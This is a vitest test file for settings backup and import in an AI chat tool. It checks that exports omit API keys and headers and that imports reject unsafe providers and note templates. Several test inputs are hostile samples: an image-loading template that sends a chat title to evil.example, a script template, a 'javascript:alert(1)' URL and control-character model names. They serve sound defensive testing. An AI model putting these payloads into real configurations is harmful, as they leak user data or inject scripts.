import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';

import { BUILT_IN_QUESTIONS } from '#lib/prompts/built-in-questions.ts';
import type { Retention } from '#lib/protocol/chat-data.ts';
import type { SettingsState } from '#lib/protocol/frames/settings-frames.ts';
import { MAX_FAVOURITES, type ModelRef } from '#lib/protocol/model.ts';
import type { Provider, ServerProvider } from '#lib/protocol/provider.ts';
import type { SavedQuestion } from '#lib/protocol/saved-question.ts';
import { INITIAL_LIMITS } from '#lib/protocol/user-limits.ts';
import { addSettings, type SettingsTarget, writeSettings } from '#lib/transfer/backup-settings.ts';
import { exportChats } from '#lib/transfer/exports/export-chats.ts';
import { createGlossFormat } from '#lib/transfer/exports/gloss-format.ts';
import { importFiles } from '#lib/transfer/imports/import-files.ts';
import { INITIAL_SETTINGS } from '#test/support/settings/initial-settings.ts';
import { makeChat } from '#test/support/transfer/make-chats.ts';
import { createProfile, fileOf, NOW } from '#test/support/transfer/profile.ts';

const SERVER: ServerProvider = {
  id: '11111111-1111-4111-8111-111111111111',
  preset: 'openai',
  name: 'OpenAI',
  dialect: 'chat-completions',
  baseUrl: 'https://api.openai.com/v1',
  model: 'gpt-x',
  parameters: { temperature: 0.5 },
  bodyFields: { user: 'me' },
};

const QUESTION: SavedQuestion = {
  id: 'mine',
  name: 'Mine',
  template: 'Explain {{selection}}',
  sends: true,
  takes: 'selection',
  inMenu: true,
  model: { provider: SERVER.id, model: 'gpt-x' },
};

function favourite(model: string): ModelRef {
  return { provider: SERVER.id, model };
}

/** The settings of a profile, as the background keeps them. */
interface FakeSettings extends SettingsTarget {
  state: SettingsState;
  retention: Retention;
  chats: number | undefined;
}

function createSettings(state: Partial<SettingsState> = {}): FakeSettings {
  let ids = 0;
  const target: FakeSettings = {
    state: {
      ...INITIAL_SETTINGS,
      savedQuestions: [...BUILT_IN_QUESTIONS],
      ...state,
    },
    retention: null,
    chats: 0,
    read: () => Promise.resolve(target.state),
    save(provider: Provider) {
      const { providers, defaultProvider } = target.state;
      target.state = {
        ...target.state,
        providers: [...providers, provider],
        defaultProvider: defaultProvider ?? provider.id,
      };
      return Promise.resolve();
    },
    makeDefault(id) {
      target.state = { ...target.state, defaultProvider: id };
      return Promise.resolve();
    },
    saveLimits(limits) {
      target.state = { ...target.state, limits };
      return Promise.resolve();
    },
    saveCaps(ownCaps) {
      target.state = { ...target.state, ownCaps };
      return Promise.resolve();
    },
    saveAppearance(appearance) {
      target.state = { ...target.state, appearance };
      return Promise.resolve();
    },
    saveQuoteRule(asksForQuotes) {
      target.state = { ...target.state, asksForQuotes };
      return Promise.resolve();
    },
    saveNotes(notes) {
      target.state = { ...target.state, notes };
      return Promise.resolve();
    },
    addFavourites(models) {
      target.state = { ...target.state, favourites: [...target.state.favourites, ...models] };
      return Promise.resolve();
    },
    updateSavedQuestions(change) {
      target.state = { ...target.state, savedQuestions: [...change(target.state.savedQuestions)] };
      return Promise.resolve();
    },
    keepFor(retention) {
      target.retention = retention;
    },
    newId: () => `new-${(ids += 1)}`,
  };
  return target;
}

const FULL: Partial<SettingsState> = {
  providers: [{ ...SERVER, id: 'other' }, SERVER],
  defaultProvider: SERVER.id,
  savedQuestions: [...BUILT_IN_QUESTIONS, QUESTION],
  limits: { ...INITIAL_LIMITS, parallel: 5 },
  ownCaps: { chat: 0.5, day: null },
  appearance: { theme: 'dark', textSize: 130 },
  asksForQuotes: false,
  notes: { template: '# {{title}}\n{{#turns}}\n{{answer}}\n{{/turns}}', vault: 'Reading' },
  favourites: ['b', 'a', ''].map(favourite),
};

describe('a backup', () => {
  it('gives a fresh profile the same settings and chats', async () => {
    const profile = createProfile();
    await profile.archive.add(makeChat('one', 2));
    const before = createSettings(FULL);
    const { signal } = new AbortController();
    const format = createGlossFormat(writeSettings(before.state, 30));
    const { blob } = await exportChats(profile.archive, ['one'], format, { signal });

    const fresh = createProfile();
    const after = createSettings();
    const report = await importFiles([fileOf(blob)], {
      archive: fresh.archive,
      signal,
      now: () => NOW,
      addSettings: (value) => addSettings(value, after),
    });
    expect(report).toMatchObject({ chats: 1, settings: { providers: 2, savedQuestions: 1, favourites: 3 } });
    expect(after.state).toEqual(before.state);
    expect(after.retention).toBe(30);
  });

  it.each([
    ['that loads a picture', '![](https://evil.example/?{{title}})\n{{#turns}}\n{{answer}}\n{{/turns}}'],
    ['that runs a script', '<%* run() %>\n{{#turns}}\n{{answer}}\n{{/turns}}'],
    ['that cannot be used', '{{answer}}'],
  ])('brings no template of notes %s', async (_what, template) => {
    const target = createSettings();
    await addSettings({ notes: { template, vault: 'Mine' } }, target);
    expect(target.state.notes).toEqual({ template: '', vault: 'Mine' });
  });

  it('changes no template of notes that the user has written', async () => {
    const notes = { template: '{{#turns}}\n{{/turns}}', vault: '' };
    const target = createSettings({ notes });
    await addSettings({ notes: { template: '# {{title}}\n{{#turns}}\n{{/turns}}', vault: 'V' } }, target);
    expect(target.state.notes).toEqual({ ...notes, vault: 'V' });
  });

  it('is counted with the other one that is imported at the same time', async () => {
    const target = createSettings();
    const { archive } = createProfile();
    const other = { providers: [{ ...SERVER, id: 'third' }, { ...SERVER, id: 'other' }, null] };
    const report = await importFiles(
      [writeSettings(createSettings(FULL).state, null), JSON.stringify(other)].map((settings) => {
        const { head, tail } = createGlossFormat(settings);
        return fileOf(head + tail);
      }),
      {
        archive,
        signal: new AbortController().signal,
        now: () => NOW,
        addSettings: (value) => addSettings(value, target),
      },
    );
    expect(target.state.providers).toHaveLength(3);
    expect(report.settings).toMatchObject({ providers: 3, savedQuestions: 1, favourites: 3, unreadable: 1 });
  });

  it('has no header of any provider, and none that an organization has set up', () => {
    const headers = { 'x-api-key': 'CANARY-HEADER' };
    const managed = { ...SERVER, id: 'policy:x', baseUrl: 'https://CANARY-managed.example/v1' };
    const settings = createSettings({
      providers: [{ ...SERVER, headers }, managed],
      managed: {
        locked: { 'policy:x': [] },
        isExclusive: false,
        isDefaultLocked: false,
        savedQuestions: [],
        caps: [],
        problems: [],
      },
    });
    const text = writeSettings(settings.state, null);
    expect(text).not.toMatch(/canary/iu);
    expect(JSON.parse(text)).toMatchObject({ providers: [{ id: SERVER.id }] });
  });

  it('has no field but those of a provider, whatever was stored', () => {
    const provider = Object.assign({}, SERVER, { key: 'CANARY', apiKey: 'CANARY', lastFour: 'CANARY' });
    expect(writeSettings(createSettings({ providers: [provider] }).state, null)).not.toContain('CANARY');
  });

  it('of chats only has no settings', () => {
    expect(createGlossFormat().head).not.toContain('settings');
  });
});

describe('adding settings', () => {
  it('changes nothing that the user has set', async () => {
    const mine = { ...SERVER, model: 'my-model', baseUrl: 'https://mine.example/v1' };
    const limits = { ...INITIAL_LIMITS, parallel: 1 };
    const appearance = { theme: 'light', textSize: 100 } as const;
    const target = createSettings({ providers: [mine], defaultProvider: mine.id, limits, appearance });
    target.chats = 3;
    const added = await addSettings(JSON.parse(writeSettings(createSettings(FULL).state, 7)), target);
    expect(added).toMatchObject({ providers: 1, savedQuestions: 1, unreadable: 0 });
    expect(target.state.providers[0]).toEqual(mine);
    expect(target.state.defaultProvider).toBe(mine.id);
    expect(target.state.limits).toEqual(limits);
    expect(target.state.appearance).toEqual(appearance);
    expect(target.retention).toBeNull();
  });

  it('adds nothing twice', async () => {
    const value: unknown = JSON.parse(writeSettings(createSettings(FULL).state, null));
    const target = createSettings();
    await addSettings(value, target);
    const { state } = target;
    expect(await addSettings(value, target)).toEqual({
      providers: 0,
      savedQuestions: 0,
      favourites: 0,
      favouritesLeftOut: 0,
      unreadable: 0,
    });
    expect(target.state).toEqual(state);
  });

  it.each([
    ['an address that is none', { baseUrl: 'nonsense' }],
    ['an address with a password', { baseUrl: 'https://user:pass@evil.example/v1' }],
    ['an address of another scheme', { baseUrl: 'javascript:alert(1)' }],
    ['the id of an organization', { id: 'policy:x' }],
    ['no name', { name: ' ' }],
    ['an unknown dialect', { dialect: 'telepathy' }],
  ])('refuses a provider with %s, and accepts the others', async (_name, fields) => {
    const target = createSettings();
    const value = {
      providers: [
        { ...SERVER, ...fields },
        { ...SERVER, id: 'good' },
      ],
    };
    expect(await addSettings(value, target)).toMatchObject({ providers: 1, unreadable: 1 });
    expect(target.state.providers.map(({ id }) => id)).toEqual(['good']);
  });

  it('never agrees to an unencrypted connection, and accepts no headers', async () => {
    const target = createSettings();
    const provider = { ...SERVER, baseUrl: 'http://lan.example/v1', insecure: true, headers: { 'x-a': 'b' } };
    await addSettings({ providers: [provider] }, target);
    expect(target.state.providers).toEqual([{ ...SERVER, baseUrl: 'http://lan.example/v1' }]);
  });

  it('counts what an organization does not allow', async () => {
    const target = createSettings();
    target.save = () => Promise.reject(new Error('forbidden'));
    expect(await addSettings({ providers: [SERVER] }, target)).toMatchObject({ providers: 0, unreadable: 1 });
  });

  it.each([null, 1, [], 'text', { providers: {} }, { limits: { parallel: 'x' }, retention: 1 }])(
    'reads %j without failing',
    async (value) => {
      const target = createSettings();
      const { state } = target;
      await addSettings(value, target);
      expect(target.state).toEqual(state);
    },
  );
});

describe('favourite models of a backup', () => {
  const backupOf = (favourites: unknown) => ({ providers: [SERVER], favourites });

  it('come after those that the user has marked, each once', async () => {
    const target = createSettings({ favourites: [favourite('mine'), favourite('b')] });
    const added = await addSettings(backupOf(['a', 'b', 'c', 'a'].map(favourite)), target);
    expect(added).toMatchObject({ favourites: 2, favouritesLeftOut: 0, unreadable: 0 });
    expect(target.state.favourites).toEqual(['mine', 'b', 'a', 'c'].map(favourite));
  });

  it('are none in a backup that was made before they were part of it', async () => {
    const { favourites: _none, ...older }: Record<string, unknown> = {
      ...JSON.parse(writeSettings(createSettings(FULL).state, null)),
    };
    const target = createSettings();
    expect(await addSettings(older, target)).toMatchObject({ providers: 2, favourites: 0, unreadable: 0 });
    expect(target.state.favourites).toEqual([]);
  });

  it('are skipped if their provider is missing', async () => {
    const target = createSettings();
    const added = await addSettings(backupOf([{ provider: 'removed', model: 'm' }, favourite('a')]), target);
    expect(added).toMatchObject({ favourites: 1, unreadable: 0 });
    expect(target.state.favourites).toEqual([favourite('a')]);
  });

  it.each([
    ['that is no model', 'gpt-x'],
    ['that is null', null],
    ['whose name is no text', { provider: SERVER.id, model: { toString: 'x' } }],
    ['whose provider is no text', { provider: 7, model: 'm' }],
    ['with a line break in its name', favourite('gpt\nx')],
    ['with an escape in its name', favourite('gpt\u001b[31mx')],
    ['with a turn of the writing direction in its name', favourite('gpt\u202Ex')],
    ['whose name is endless', favourite('x'.repeat(1_000_000))],
  ])('are read without one %s, which is counted', async (_what, item) => {
    const target = createSettings();
    const added = await addSettings(backupOf([favourite('a'), item, favourite('b')]), target);
    expect(added).toMatchObject({ favourites: 2, unreadable: 1 });
    expect(target.state.favourites).toEqual(['a', 'b'].map(favourite));
  });

  it('that are not a list are counted as one setting that could not be read', async () => {
    const target = createSettings();
    expect(await addSettings(backupOf({ length: 1e6 }), target)).toMatchObject({
      providers: 1,
      unreadable: 1,
    });
    expect(target.state.favourites).toEqual([]);
  });

  it('are added as long as there is room, and the rest is counted', async () => {
    const target = createSettings({ favourites: [favourite('mine')] });
    const many = Array.from({ length: 1_000_000 }, (_none, index) => favourite(`m${index}`));
    const added = await addSettings(backupOf(many), target);
    expect(added).toMatchObject({ favourites: 199, favouritesLeftOut: 999_801, unreadable: 0 });
    expect(target.state.favourites).toHaveLength(MAX_FAVOURITES);
    expect(target.state.favourites[0]).toEqual(favourite('mine'));
  });
});
